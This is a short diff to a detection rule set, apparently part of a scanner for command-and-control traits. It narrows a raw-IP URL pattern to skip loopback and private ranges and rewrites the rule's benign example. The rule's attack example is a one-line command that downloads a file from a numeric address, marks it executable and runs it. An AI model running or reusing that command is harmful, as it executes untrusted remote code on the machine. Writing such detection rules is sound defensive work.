@@ -182,10 +182,12 @@ C2: tuple[Rule, ...] = (
     ),
     Rule(
         id="c2.raw-address", kind="c2", weight=0.3,
-        match=Shape(r"https?://(?:\d{1,3}\.){3}\d{1,3}\b"),
+        match=Shape(  # 0, 10 and 127 are this machine or its own network
+            r"https?://(?:[1-9]|1[1-9]|[2-9]\d|1[013-9]\d|12[0-689]|2\d\d)(?:\.\d{1,3}){3}\b"
+        ),
         reason="names a server by its number",
         attack="wget http://192.0.2.4/a; chmod +x a; ./a",
-        benign="http://localhost:8000",
+        benign="A host sends its events as `Authorization: Bearer TOKEN` to http://127.0.0.1:8000/v1/events",
     ),
     Rule(
         id="c2.persist-in", kind="c2", weight=0.2,
